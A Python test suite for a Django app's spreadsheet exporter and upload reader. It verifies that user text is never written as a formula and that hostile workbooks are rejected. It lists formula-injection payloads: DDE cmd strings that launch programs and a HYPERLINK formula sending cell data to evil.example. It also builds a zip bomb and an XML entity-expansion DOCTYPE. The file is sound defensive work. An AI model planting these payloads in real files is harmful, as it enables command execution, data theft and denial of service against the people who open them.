"""The one .xlsx writer (no formula ever comes out of user text) and the bounded reader (hostile uploads)."""

import datetime
import io
import zipfile
import zoneinfo
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook

from tests.hostile_workbooks import (
    blank_rows_workbook,
    plain_workbook,
    shared_strings_bomb,
    shared_strings_workbook,
    sheet_xml_workbook,
    wide_row_workbook,
)
from thidua.spreadsheets import (
    Sheet,
    WorkbookLimits,
    WorkbookRejected,
    check_workbook_archive,
    could_be_formula,
    read_workbook_rows,
    workbook_bytes,
)

pytestmark = pytest.mark.unit

HOSTILE_TEXTS = [
    "=0+cmd|' /C notepad'!A0",
    '=1+HYPERLINK("http://evil.example/?"&B2,"Xem chi tiết")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    ' =1+HYPERLINK("http://evil.example")',
    "\t \u00a0=0+cmd|' /C calc'!A0",
    "  -1",
]


def xml_read(text: str) -> str:
    """What an XML parser gives back for ``text`` (a carriage return reads as a line feed)."""
    return text.replace("\r", "\n")


def cells_of(xlsx: bytes):
    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def rejection(source, **kwargs) -> WorkbookRejected:
    with pytest.raises(WorkbookRejected) as caught:
        for _row in read_workbook_rows(source, **kwargs):
            pass
    return caught.value


# ---------------------------------------------------------------------------
# Writer
# ---------------------------------------------------------------------------
def test_hostile_text_is_written_as_text_never_as_a_formula():
    xlsx = workbook_bytes(Sheet("Doanh nghiệp", ["Tên"], [[text] for text in HOSTILE_TEXTS]))

    body = cells_of(xlsx)[1:]

    assert [cell.value for cell in body] == [xml_read(text) for text in HOSTILE_TEXTS]
    assert {cell.data_type for cell in body} == {"s"}
    assert all(cell.quotePrefix for cell in body)


def test_the_sheet_xml_has_no_formula_element():
    xlsx = workbook_bytes(Sheet("S", [*HOSTILE_TEXTS], [HOSTILE_TEXTS]))

    sheet_xml = zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml")

    assert b"<f>" not in sheet_xml
    assert b"<f " not in sheet_xml


def test_plain_text_gets_no_quote_prefix_and_error_words_stay_text():
    xlsx = workbook_bytes(Sheet("S", ["Tên"], [["Công ty TNHH Ván dán Hồng Ngọc"], ["#N/A"], ["a-b=c"]]))

    body = cells_of(xlsx)[1:]

    assert [(c.value, c.data_type, bool(c.quotePrefix)) for c in body] == [
        ("Công ty TNHH Ván dán Hồng Ngọc", "s", False),
        ("#N/A", "s", False),
        ("a-b=c", "s", False),
    ]


def test_numbers_dates_and_booleans_keep_their_types():
    hanoi = zoneinfo.ZoneInfo("Asia/Ho_Chi_Minh")
    signed = datetime.datetime(2026, 3, 2, 2, 30, tzinfo=datetime.UTC)  # 09:30 in Hà Nội
    row = [-5, 2.5, Decimal("12.50"), signed, datetime.date(2026, 1, 1), True]
    xlsx = workbook_bytes(Sheet("S", ["a", "b", "c", "d", "e", "f"], [row]))

    body = cells_of(xlsx)[6:]

    assert [cell.value for cell in body] == [
        -5,
        2.5,
        12.5,
        datetime.datetime(2026, 3, 2, 9, 30, tzinfo=hanoi).replace(tzinfo=None),
        datetime.datetime(2026, 1, 1, tzinfo=hanoi).replace(tzinfo=None),
        True,
    ]
    assert [cell.data_type for cell in body] == ["n", "n", "n", "d", "d", "b"]


def test_characters_xml_cannot_carry_are_dropped_instead_of_failing_the_export():
    xlsx = workbook_bytes(Sheet("S", ["Tên"], [["Công\x00ty\x0b A\x1f"], ["x" * 40_000]]))

    body = cells_of(xlsx)[1:]

    assert body[0].value == "Côngty A"
    assert len(body[1].value) == 32_767


def test_header_notes_subheader_widths_and_sheet_title():
    xlsx = workbook_bytes(
        Sheet(
            "Danh sách: doanh nghiệp [2026] rất dài quá mức",
            ["Mã số thuế", "Tên"],
            [["0100109106", "A"]],
            widths=[14, 40],
            notes=["Tax code", ""],
            subheader=["Tax code", "=Name"],
        )
    )

    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]

    assert sheet.title == "Danh sách  doanh nghiệp  2026  "[:31]
    assert sheet["A1"].font.bold
    assert sheet["A1"].comment.text == "Tax code"
    assert sheet["B1"].comment is None
    assert (sheet["A2"].font.italic, sheet["B2"].value, sheet["B2"].data_type) == (True, "=Name", "s")
    assert sheet.column_dimensions["B"].width == 40
    assert sheet["A3"].value == "0100109106"


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_could_be_formula_sees_through_leading_whitespace(text):
    assert could_be_formula(text)


@pytest.mark.parametrize("text", ["Công ty", "0208 3856 123", "a=b", "", "  Công ty", "(+84) 208"])
def test_ordinary_text_is_not_taken_for_a_formula(text):
    assert not could_be_formula(text)


# ---------------------------------------------------------------------------
# Reader: ordinary workbooks
# ---------------------------------------------------------------------------
def test_rows_come_out_numbered_and_padded_to_the_columns_asked_for():
    xlsx = plain_workbook([["Mã số thuế", "Tên"], ["0100109106", "Công ty A", "extra"], [], [123, None]])

    rows = list(read_workbook_rows(io.BytesIO(xlsx), max_columns=2))

    assert rows == [
        (1, ("Mã số thuế", "Tên")),
        (2, ("0100109106", "Công ty A")),
        (3, (None, None)),
        (4, (123, None)),
    ]


def test_a_workbook_written_by_the_writer_reads_back_the_hostile_text_as_text(tmp_path):
    path = tmp_path / "export.xlsx"
    path.write_bytes(workbook_bytes(Sheet("S", ["Tên"], [[t] for t in HOSTILE_TEXTS])))

    values = [values[0] for _number, values in read_workbook_rows(str(path), max_columns=1)]

    assert values == ["Tên", *(xml_read(text) for text in HOSTILE_TEXTS)]


def test_a_formula_comes_out_as_its_text():
    xlsx = sheet_xml_workbook(
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1"><f>1+HYPERLINK("http://evil.example")</f><v>1</v></c></row>'
        "</sheetData></worksheet>"
    )

    rows = list(read_workbook_rows(io.BytesIO(xlsx), max_columns=1))

    assert rows == [(1, ('=1+HYPERLINK("http://evil.example")',))]


# ---------------------------------------------------------------------------
# Reader: hostile workbooks
# ---------------------------------------------------------------------------
@pytest.fixture(scope="module")
def bomb() -> bytes:
    return shared_strings_bomb()


def test_the_shared_strings_bomb_is_small_on_disk_and_refused_before_it_is_opened(bomb):
    archive = zipfile.ZipFile(io.BytesIO(bomb))

    refused = rejection(io.BytesIO(bomb), max_columns=12)

    assert len(bomb) < 800 * 1024
    assert archive.getinfo("xl/sharedStrings.xml").file_size > 250 * 1024 * 1024
    assert refused.code == "workbook_ratio"
    assert "zip bomb" in refused.message


def test_the_shared_strings_bomb_is_also_over_the_total_size(bomb):
    with pytest.raises(WorkbookRejected) as caught:
        check_workbook_archive(io.BytesIO(bomb), WorkbookLimits(max_compression_ratio=10_000))

    assert caught.value.code == "workbook_uncompressed"


def test_a_shared_strings_table_over_its_own_limit_is_refused():
    xlsx = shared_strings_workbook(200_000, text=b"abcdefgh")  # 3.2 MB of XML

    with pytest.raises(WorkbookRejected) as caught:
        check_workbook_archive(
            io.BytesIO(xlsx),
            WorkbookLimits(max_compression_ratio=10_000, max_shared_strings_bytes=1024 * 1024),
        )

    assert caught.value.code == "workbook_shared_strings"


def test_nine_megabytes_of_empty_rows_stop_at_the_row_limit():
    xlsx = blank_rows_workbook(["Mã số thuế", "Tên"])
    read = []

    with pytest.raises(WorkbookRejected) as caught:
        for number, _values in read_workbook_rows(io.BytesIO(xlsx), max_columns=2):
            read.append(number)

    assert len(xlsx) > 8 * 1024 * 1024
    assert caught.value.code == "workbook_rows"
    assert len(read) == 20_000
    assert "20.000" in caught.value.message or "20,000" in caught.value.message


def test_a_gap_of_missing_rows_counts_toward_the_limit():
    xlsx = sheet_xml_workbook(
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'
        '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>b</t></is></c></row>'
        "</sheetData></worksheet>"
    )

    refused = rejection(io.BytesIO(xlsx), max_columns=1, limits=WorkbookLimits(max_rows=100))

    assert refused.code == "workbook_rows"


def test_a_declared_dimension_does_not_invent_rows():
    xlsx = sheet_xml_workbook(
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<dimension ref="A1:XFD1048576"/><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'
        "</sheetData></worksheet>"
    )

    rows = list(read_workbook_rows(io.BytesIO(xlsx), max_columns=2, limits=WorkbookLimits(max_rows=10)))

    assert rows == [(1, ("a", None))]


def test_a_row_of_a_hundred_thousand_cells_is_refused_before_openpyxl_builds_it():
    refused = rejection(io.BytesIO(wide_row_workbook(100_000)), max_columns=12)

    assert refused.code == "workbook_row_width"


def test_a_document_type_declaration_is_refused():
    xlsx = sheet_xml_workbook(
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>'
    )

    assert rejection(io.BytesIO(xlsx), max_columns=1).code == "workbook_unreadable"


def test_too_many_members_are_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for index in range(201):
            archive.writestr(f"x/{index}.xml", b"<x/>")

    assert rejection(io.BytesIO(out.getvalue()), max_columns=1).code == "workbook_members"


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04 not really", b"Tax code;Name\n0100109106;A\n"])
def test_what_is_not_a_workbook_is_refused_with_one_message(content):
    refused = rejection(io.BytesIO(content), max_columns=1)

    assert (refused.code, refused.message) == (
        "workbook_unreadable",
        "The file could not be read as an Excel workbook (.xlsx).",
    )


def test_a_zip_that_is_not_a_workbook_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", b"hello")

    assert rejection(io.BytesIO(out.getvalue()), max_columns=1).code == "workbook_unreadable"


def test_a_file_over_the_size_limit_is_refused_before_reading(tmp_path):
    path = tmp_path / "big.xlsx"
    path.write_bytes(plain_workbook([["a"]]) + b"\0" * 2048)

    refused = rejection(str(path), max_columns=1, limits=WorkbookLimits(max_file_bytes=1024))

    assert refused.code == "workbook_too_large"


def test_the_messages_speak_vietnamese_to_a_vietnamese_user():
    xlsx = blank_rows_workbook(["a"], last_row=200)

    with translation.override("vi"):
        refused = rejection(io.BytesIO(xlsx), max_columns=1, limits=WorkbookLimits(max_rows=100))

    assert refused.message.startswith("Trang tính có hơn 100 dòng")
